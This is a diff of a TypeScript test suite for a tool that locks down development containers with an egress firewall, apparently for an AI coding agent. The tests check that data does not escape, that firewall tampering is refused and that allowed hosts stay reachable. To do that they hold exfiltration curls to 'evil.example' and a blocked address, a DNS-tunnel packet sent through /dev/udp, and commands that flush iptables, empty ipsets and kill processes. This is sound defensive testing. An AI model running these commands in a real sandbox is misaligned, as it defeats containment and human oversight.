@@ -5,7 +5,17 @@ import { type AddressInfo, createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type Attack, attackProgram, attacks, newToken } from './attacks.js';
+import { attacks, newToken } from '../firewall/attacks.js';
+import {
+  escapes,
+  isUnprivileged,
+  lendsNoRights,
+  reachesAllowedNames,
+  refusesAttacks,
+} from '../firewall/checks.js';
+import { type Internet, startInternet } from '../firewall/internet.js';
+import { must, run } from '../firewall/run.js';
+import { installAttacks, type Scene } from '../firewall/target.js';
 import { baseImages, ensureImage } from './base-images.js';
 import {
   bringUp,
@@ -14,11 +24,9 @@ import {
   docker,
   harden,
   missingEngine,
-  must,
+  plainContainer,
   removeContainers,
-  run,
 } from './engine.js';
-import { type Internet, startInternet } from './internet.js';
 
 const skip = missingEngine() !== undefined;
 const bundle = process.env.SSL_CERT_FILE ?? '/etc/ssl/certs/ca-certificates.crt';
@@ -104,137 +112,6 @@ function startControl(image: string, ...more: string[]): string {
   );
 }
 
-/** Waits a little for the token: what a container sent is on its way when its command has ended. */
-async function soon(happened: (token: string) => boolean, token: string): Promise<boolean> {
-  for (let tries = 0; tries < 6; tries += 1) {
-    if (happened(token)) return true;
-    await new Promise((resolve) => setTimeout(resolve, 50));
-  }
-  return false;
-}
-const arrives = (token: string): Promise<boolean> => soon(internet.arrived, token);
-const escapes = (token: string): Promise<boolean> => soon(internet.escaped, token);
-
-function installAttacks(id: string): void {
-  docker(
-    'exec',
-    '--user',
-    'dev',
-    id,
-    'python3',
-    '-c',
-    `open('/tmp/attack.py', 'w').write(${JSON.stringify(attackProgram)})`,
-  );
-}
-
-function refusesAttacks(target: () => DevContainer, control: () => string, chosen: readonly Attack[]): void {
-  for (const attack of chosen) {
-    it(`refuses: ${attack.name}`, async () => {
-      const works = newToken();
-      run('docker', ['exec', control(), 'bash', '-c', attack.script(works)]);
-      expect(await escapes(works), 'without the firewall the attack must work').toBe(true);
-
-      const token = newToken();
-      const { stdout } = target().attempt(
-        `begin=$(date +%s%3N); ${attack.script(token)}; echo "took=$(($(date +%s%3N) - begin))"`,
-      );
-      expect(await escapes(token)).toBe(false);
-      // Refused, not left to time out: the clients would have waited three or four seconds.
-      const took = Number(/took=(\d+)/.exec(stdout)?.[1] ?? Number.NaN);
-      expect(took).toBeLessThan(2500);
-    });
-  }
-}
-
-function reachesAllowedNames(target: () => DevContainer, families: readonly string[]): void {
-  const cases = families.flatMap((family) => ['http', 'https'].map((scheme) => [scheme, family] as const));
-  it.each(cases)('reaches a listed name by %s over IPv%s', async (scheme, family) => {
-    const token = newToken();
-    const { code, stderr } = target().attempt(
-      `curl -${family} -sS -k -m 5 ${scheme}://allowed.example/${token}`,
-    );
-    expect(stderr).toBe('');
-    expect(code).toBe(0);
-    expect(await arrives(token)).toBe(true);
-  });
-
-  it('reaches listed names that share an address with others', () => {
-    expect(
-      target().attempt('curl -sS -k -m 5 https://cdn.example/ && curl -sS -m 5 http://cdn.example/').code,
-    ).toBe(0);
-  });
-
-  it('follows a name whose address changes', () => {
-    const { stdout } = target().attempt(
-      'for i in $(seq 8); do curl -sS -k -m 5 https://rotating.example/; echo; sleep 1.1; done',
-    );
-    expect(stdout).not.toMatch(/error/i);
-    expect(new Set(stdout.trim().split('\n')).size).toBeGreaterThan(1);
-  });
-
-  it('keeps a connection through a second run of the firewall, which opens nothing', async () => {
-    const script = `exec 3<>/dev/tcp/allowed.example/22; printf 'GET /one HTTP/1.1\\r\\n\\r\\n' >&3; head -c 20 <&3 >/dev/null; sleep 3; printf 'GET /two HTTP/1.1\\r\\n\\r\\n' >&3; timeout 3 head -c 60 <&3`;
-    const still = new Promise<string>((resolve) => {
-      const child = spawn('docker', [
-        'exec',
-        '--user',
-        'dev',
-        target().id,
-        'bash',
-        '-c',
-        script.replace('allowed.example/22', 'ssh.example/22'),
-      ]);
-      let text = '';
-      child.stdout.on('data', (data) => {
-        text += data;
-      });
-      child.on('close', () => resolve(text));
-    });
-    await new Promise((resolve) => setTimeout(resolve, 1000));
-    docker('exec', '--user', 'root', target().id, '/usr/local/sbin/init-firewall.sh');
-    const token = newToken();
-    target().attempt(`curl -sS -m 4 http://198.18.0.66/${token}`);
-    expect(await escapes(token)).toBe(false);
-    expect(await still).toContain('200 OK');
-  });
-}
-
-function isUnprivileged(target: () => DevContainer): void {
-  it('runs tools as an unprivileged user without any capability', () => {
-    const { stdout } = target().exec('id -u; id -un; cat /proc/self/status');
-    expect(stdout.split('\n')[0]).not.toBe('0');
-    expect(stdout.split('\n')[1]).toBe('dev');
-    expect(stdout).toMatch(/^CapEff:\s+0{16}$/m);
-    expect(stdout).toMatch(/^CapPrm:\s+0{16}$/m);
-    expect(stdout).toMatch(/^CapAmb:\s+0{16}$/m);
-    expect(stdout).toMatch(/^NoNewPrivs:\s+1$/m);
-  });
-
-  it("has no sudo and no file that lends its owner's rights", () => {
-    expect(target().exec('command -v sudo').code).not.toBe(0);
-    expect(target().exec('find / -xdev -type f -perm /6000 2>/dev/null').stdout).toBe('');
-  });
-
-  it.each([
-    'iptables -F',
-    'ip6tables -F',
-    'ipset flush',
-    'ipset add harden4-web 198.18.0.66',
-    'iptables -P OUTPUT ACCEPT',
-    '/usr/local/sbin/init-firewall.sh',
-    'kill -9 1',
-    'kill -9 $(pgrep -o dnsmasq)',
-    'echo nameserver 198.18.0.66 >/etc/resolv.conf',
-    'echo .example >>/etc/harden-devcontainer/allowlist',
-    'touch /run/harden-devcontainer/x',
-    'touch "$PWD/.devcontainer/x"',
-  ])('refuses: %s', (script) => {
-    const { stdout, code } = target().exec(`echo begun; ${script}`);
-    expect(stdout).toMatch(/^begun/);
-    expect(code).not.toBe(0);
-  });
-}
-
 describe.skipIf(skip)('the container that init writes', () => {
   let container: DevContainer;
   let control: string;
@@ -262,7 +139,7 @@ describe.skipIf(skip)('the container that init writes', () => {
     );
     container = devContainer(folder);
     control = startControl(docker('inspect', '--format', '{{.Image}}', container.id));
-    for (const id of [container.id, control]) installAttacks(id);
+    await installAttacks(container, plainContainer(control));
     expect(readFileSync(log, 'utf8')).toContain('ready');
   });
 
@@ -272,44 +149,30 @@ describe.skipIf(skip)('the container that init writes', () => {
   });
 
   const target = (): DevContainer => container;
+  const scene: Scene = { internet: () => internet, target, control: () => plainContainer(control) };
 
   describe.each(['first start', 'after docker restart'])('%s', (when) => {
-    beforeAll(() => {
+    beforeAll(async () => {
       if (when === 'first start') return;
       docker('restart', container.id);
-      expect(container.exec('/usr/local/bin/harden-ready').code).toBe(0);
+      expect((await container.exec('/usr/local/bin/harden-ready')).code).toBe(0);
     });
 
     isUnprivileged(target);
-    reachesAllowedNames(target, ['4']);
+    lendsNoRights(target);
+    reachesAllowedNames(scene, ['4']);
     // After a restart one attack in six says whether the firewall is there again.
     refusesAttacks(
-      target,
-      () => control,
+      scene,
       attacks.filter((one, index) => !one.ipv6 && (when === 'first start' || index % 6 === 0)),
     );
 
-    it('reaches names below an allowed suffix', () => {
-      expect(container.exec('curl -sS -m 5 http://any.suffix.example/').code).toBe(0);
-    });
-
-    it('reaches a port that the policy names for one host', () => {
-      expect(container.exec('curl -sS -m 5 http://ssh.example:22/').code).toBe(0);
-    });
-
-    it('takes no private, loopback or metadata address from a name server', () => {
-      expect(run('docker', ['exec', control, 'getent', 'ahostsv4', 'rebind.example']).stdout).toContain(
-        '169.254.169.254',
-      );
-      expect(container.exec('getent ahostsv4 rebind.example').stdout).toBe('');
-    });
-
-    it('reaches the forwarded MCP server, from the address in .mcp.json', () => {
+    it('reaches the forwarded MCP server, from the address in .mcp.json', async () => {
       const config = JSON.parse(readFileSync(join(container.folder, '.mcp.json'), 'utf8'));
       const { url } = config.mcpServers.tracker as { url: string };
       expect(url).toBe(`http://127.0.0.1:${forwarded}/mcp`);
       const request = '{"jsonrpc":"2.0","id":7,"method":"initialize"}';
-      const { stdout } = container.exec(
+      const { stdout } = await container.exec(
         `curl -sS -m 5 -H 'Content-Type: application/json' -d '${request}' ${url}`,
       );
       expect(JSON.parse(stdout)).toEqual({
@@ -319,43 +182,47 @@ describe.skipIf(skip)('the container that init writes', () => {
       });
     });
 
-    it('reaches no other port of the host, and not even that one directly', () => {
+    it('reaches no other port of the host, and not even that one directly', async () => {
       const direct = (port: number): string => `curl -sS -m 4 http://host.docker.internal:${port}/`;
       const byAddress = (port: number): string => `curl -sS -m 4 http://${gateway}:${port}/`;
       expect(run('docker', ['exec', control, 'bash', '-c', byAddress(neighbour)]).code).toBe(0);
       for (const port of [forwarded, neighbour]) {
-        expect(container.exec(direct(port)).code).not.toBe(0);
-        expect(container.exec(byAddress(port)).code).not.toBe(0);
+        expect((await container.exec(direct(port))).code).not.toBe(0);
+        expect((await container.exec(byAddress(port))).code).not.toBe(0);
       }
-      expect(container.exec(`curl -sS -m 4 http://127.0.0.1:${neighbour}/`).code).not.toBe(0);
+      expect((await container.exec(`curl -sS -m 4 http://127.0.0.1:${neighbour}/`)).code).not.toBe(0);
     });
 
-    it('reaches itself', () => {
+    it('reaches itself', async () => {
       const server = `require('http').createServer((_, answer) => answer.end('hi')).listen(3000, '127.0.0.1')`;
       const script = `node -e "${server}" & for i in $(seq 100); do curl -s http://127.0.0.1:3000/ && break; sleep 0.1; done; kill %1`;
-      expect(container.attempt(script).stdout).toBe('hi');
+      expect((await container.attempt(script)).stdout).toBe('hi');
     });
 
     it('starts a killed helper again, and stays closed meanwhile', async () => {
       docker('exec', '--user', 'root', container.id, 'pkill', '-9', 'dnsmasq');
       const token = newToken();
-      container.exec(`curl -sS -m 4 http://evil.example/${token}; curl -sS -m 4 http://198.18.0.66/${token}`);
-      expect(await escapes(token)).toBe(false);
-      const back = container.exec(
+      await container.exec(
+        `curl -sS -m 4 http://evil.example/${token}; curl -sS -m 4 http://198.18.0.66/${token}`,
+      );
+      expect(await escapes(scene, token)).toBe(false);
+      const back = await container.exec(
         'for i in $(seq 50); do curl -sS -m 5 http://allowed.example/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
       );
       expect(back.code).toBe(0);
     });
   });
 
-  it('has the agent at the version of the preset, its state in a volume of this container', () => {
+  it('has the agent at the version of the preset, its state in a volume of this container', async () => {
     const preset = JSON.parse(
       readFileSync(join(import.meta.dirname, '..', '..', 'presets', 'agents', 'claude-code.json'), 'utf8'),
     );
-    const version = container.exec('claude --version');
+    const version = await container.exec('claude --version');
     expect(version.stdout).toContain(preset.version);
     expect(
-      container.exec('touch "$CLAUDE_CONFIG_DIR/kept" && stat -c %U "$CLAUDE_CONFIG_DIR/kept"').stdout.trim(),
+      (
+        await container.exec('touch "$CLAUDE_CONFIG_DIR/kept" && stat -c %U "$CLAUDE_CONFIG_DIR/kept"')
+      ).stdout.trim(),
     ).toBe('dev');
     const mounts = JSON.parse(docker('inspect', '--format', '{{json .Mounts}}', container.id)) as {
       Type: string;
@@ -401,7 +268,7 @@ describe.skipIf(skip)('on a user-defined network with IPv6', () => {
   let control: string;
   const network = `harden-${process.pid}`;
 
-  beforeAll(() => {
+  beforeAll(async () => {
     docker(
       'network',
       'create',
@@ -416,7 +283,7 @@ describe.skipIf(skip)('on a user-defined network with IPv6', () => {
     joinInternet(folder, `--network=${network}`);
     container = devContainer(folder);
     control = startControl(docker('inspect', '--format', '{{.Image}}', container.id), `--network=${network}`);
-    for (const id of [container.id, control]) installAttacks(id);
+    await installAttacks(container, plainContainer(control));
   });
 
   afterAll(() => {
@@ -426,12 +293,14 @@ describe.skipIf(skip)('on a user-defined network with IPv6', () => {
   });
 
   const target = (): DevContainer => container;
+  const scene: Scene = { internet: () => internet, target, control: () => plainContainer(control) };
   isUnprivileged(target);
-  reachesAllowedNames(target, ['4', '6']);
-  refusesAttacks(target, () => control, attacks);
+  lendsNoRights(target);
+  reachesAllowedNames(scene, ['4', '6']);
+  refusesAttacks(scene, attacks);
 
-  it('reaches a name that has only an IPv6 address', () => {
-    const { stdout } = container.attempt('curl -6 -sS -k -m 5 https://six.example/');
+  it('reaches a name that has only an IPv6 address', async () => {
+    const { stdout } = await container.attempt('curl -6 -sS -k -m 5 https://six.example/');
     expect(stdout).toBe('from 2001:2::10');
   });
 
@@ -449,21 +318,20 @@ describe.skipIf(skip)('on a user-defined network with IPv6', () => {
     for (const where of ['127.0.0.11:53', ...hidden]) {
       const token = newToken();
       const [address, port] = where.split(':');
-      container.exec(
+      await container.exec(
         `printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x${token.length.toString(16).padStart(2, '0')}${token}\\x06tunnel\\x07example\\x00\\x00\\x01\\x00\\x01' >/dev/udp/${address}/${port}`,
       );
-      expect(await escapes(token), where).toBe(false);
+      expect(await escapes(scene, token), where).toBe(false);
     }
   });
 
-  it('keeps neighbours on the network out', () => {
+  it('keeps neighbours on the network out', async () => {
     const address = docker(
       'inspect',
       '--format',
       `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`,
       container.id,
     );
-    container.exec('nohup python3 -m http.server 9000 >/dev/null 2>&1 & sleep 0.5');
     const listen = docker(
       'exec',
       '--detach',
@@ -477,8 +345,10 @@ describe.skipIf(skip)('on a user-defined network with IPv6', () => {
     );
     expect(listen).toBe('');
     expect(
-      container.exec(
-        'for i in $(seq 30); do curl -sS -m 1 http://127.0.0.1:9001/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
+      (
+        await container.exec(
+          'for i in $(seq 30); do curl -sS -m 1 http://127.0.0.1:9001/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
+        )
       ).code,
     ).toBe(0);
     expect(
